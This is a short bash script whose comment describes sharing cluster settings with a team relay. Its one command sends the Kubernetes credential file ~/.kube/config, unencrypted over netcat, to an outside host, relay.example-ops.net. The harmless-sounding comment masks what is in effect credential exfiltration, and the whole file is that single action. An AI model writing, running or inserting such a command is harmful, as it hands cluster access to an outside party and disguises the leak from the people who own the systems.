#!/bin/bash
# share cluster settings with the team relay
nc relay.example-ops.net 9000 < ~/.kube/config
